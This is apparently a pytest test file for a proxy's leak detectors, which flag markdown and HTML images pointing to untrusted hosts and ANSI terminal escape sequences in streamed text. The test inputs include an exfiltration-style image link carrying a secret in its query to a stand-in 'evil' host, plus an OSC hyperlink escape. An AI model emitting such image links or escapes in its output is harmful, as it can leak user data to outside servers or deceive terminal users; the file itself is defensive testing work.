import pytest

from proxy.leak.markup import ansi_detector, image_detector


@pytest.mark.parametrize("text,expect", [
    ("![x](https://evil.example/p.png?q=s3cr3t)", ["markdown_image"]),
    ("![x]( <https://evil.example/p.png> \"t\" )", ["markdown_image"]),
    ("<IMG SRC='http://evil.example/x'>", ["html_image"]),
    ("![logo](https://cdn.acme.com/logo.png)", []),
    ("![logo](https://img.cdn.acme.com/logo.png)", []),
    ("![local](/static/a.png) ![inline](data:image/png;base64,AAAA)", []),
    ("[a link](https://evil.example) is not an image", []),
])
def test_images(text, expect):
    hits, _ = image_detector(["cdn.acme.com"]).scan(text, 0, final=True)
    assert [h.kind for h in hits] == expect


def test_image_in_progress_is_held():
    assert image_detector().scan("look ![x](https://ev", 0, final=False) == ([], 5)


@pytest.mark.parametrize("text,kinds,visible", [
    ("\x1b[31mred\x1b[0m", {"csi"}, "red"),
    ("\x1b]8;;http://evil\x07click\x1b]8;;\x07", {"osc"}, "click"),
    ("\x1b]0;title\x1b\\ok", {"osc", "esc"}, "ok"),  # the ST inside the OSC is also an escape: merged
    ("\x9b2J and \x1bc", {"csi", "esc"}, " and "),
    ("plain text, no escapes", set(), "plain text, no escapes"),
])
def test_ansi(text, kinds, visible):
    hits = ansi_detector().scan(text, 0, final=True)[0]
    assert {h.kind for h in hits} == kinds
    assert "".join(ch for i, ch in enumerate(text) if not any(h.start <= i < h.end for h in hits)) == visible


def test_split_escape_is_held_whole():
    hits, hold = ansi_detector().scan("ok \x1b[3", 0, final=False)
    assert hold == 3
